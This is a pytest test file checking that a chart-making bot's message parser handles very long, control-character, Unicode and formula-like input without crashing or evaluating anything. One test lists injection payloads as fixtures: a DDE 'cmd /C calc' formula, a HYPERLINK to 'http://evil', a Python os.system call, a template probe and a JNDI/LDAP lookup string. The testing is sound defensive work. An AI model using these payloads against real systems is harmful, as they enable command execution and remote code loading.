"""Hostile and odd input: long messages, control characters, formulas, odd Unicode. Each must
come back as a chart or a refusal (never an exception), and nothing is ever evaluated."""

from __future__ import annotations

import pytest

from bot.understand import ChartResult, Command, Context, NotUnderstood, understand
from tests.understand.data import big_dataset, sales_dataset

SALES = sales_dataset()

LONG = {
    "repeated request": "revenue by region " * 2300,
    "commas": "1," * 20000,
    "pairs": ", ".join(f"item{i} {i}" for i in range(5000)),
    "emoji codes": ":tada:" * 6000,
    "mentions": "<@U" * 13000,
    "tabs": "\t".join(["x"] * 20000),
    "pasted rows": "a\t1\n" * 10000,
    "unicode": "\u202e\u200b\U0001f600é" * 10000,
    "dots": "1." * 20000,
    "top": "top 5 " * 6000,
}


@pytest.mark.parametrize("name", list(LONG))
def test_forty_thousand_characters(name: str) -> None:
    text = LONG[name][:40000]
    result = understand(text, Context(dataset=SALES))
    assert isinstance(result, ChartResult | NotUnderstood | Command)
    if isinstance(result, NotUnderstood):
        assert len(result.message) < 3000


def test_long_pasted_table_is_read_whole() -> None:
    text = "name\tvalue\n" + "\n".join(f"row {i}\t{i}" for i in range(3000))
    result = understand(text, Context())
    assert isinstance(result, ChartResult)
    assert len(result.spec.x_labels) == 3000 and result.spec.y_values[-1] == 2999


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil", "x") 3, b 4',
        "__import__('os').system('ls') 1, b 2",
        "{{7*7}} 3, b 4",
        "${jndi:ldap://x} 3, b 4",
    ],
)
def test_formula_looking_text_is_plain_text(text: str) -> None:
    result = understand(text, Context())
    if isinstance(result, ChartResult):
        assert all(isinstance(v, int | float) for v in result.spec.y_values)
        assert 49 not in result.spec.y_values  # '{{7*7}}' was not computed


def test_formula_label_kept_as_text() -> None:
    result = understand("=SUM(A1:A3)\t5\nB\t6", Context())
    assert isinstance(result, ChartResult)
    assert result.spec.x_labels[0] == "=SUM(A1:A3)" and result.spec.y_values == [5, 6]


@pytest.mark.parametrize(
    "text",
    [
        "revenue\x00 by\x1b[31m region",
        "revenue by\u2028region",
        "\ufeffrevenue by region",
        "ｒｅｖｅｎｕｅ ｂｙ ｒｅｇｉｏｎ",  # full-width letters
        "revenue by region\u202e",
        "revenue‍ by region",  # zero-width joiner
    ],
)
def test_control_characters_and_odd_unicode(text: str) -> None:
    result = understand(text, Context(dataset=SALES))
    assert isinstance(result, ChartResult), getattr(result, "message", "")
    assert result.spec.title == "Revenue by Region"


def test_same_request_gives_the_same_spec() -> None:
    a = understand("top 3 products by revenue for 2024, horizontal", Context(dataset=SALES))
    b = understand("top 3 products by revenue for 2024, horizontal", Context(dataset=SALES))
    assert a.spec.to_json() == b.spec.to_json()


def test_large_table_query() -> None:
    """100k rows go through filter, bucket and aggregate (timed in bench/, not here)."""
    ds = big_dataset(100_000)
    result = understand("average revenue by region and product for 2024", Context(dataset=ds))
    assert isinstance(result, ChartResult)
    assert result.spec.rows == sum(1 for d in ds.table.column("Date").values if d.year == 2024)


def test_long_message_reads_chart_words_at_its_ends() -> None:
    rows = "\n".join(f"item {i}: {i % 7}" for i in range(600))
    result = understand(f"donut chart please\n{rows}\nsorted descending", Context())
    assert isinstance(result, ChartResult)
    spec = result.spec
    assert str(spec.chart_type) == "donut" and spec.sort == "desc"
    assert len(spec.x_labels) == 600 and spec.y_values[0] == 6
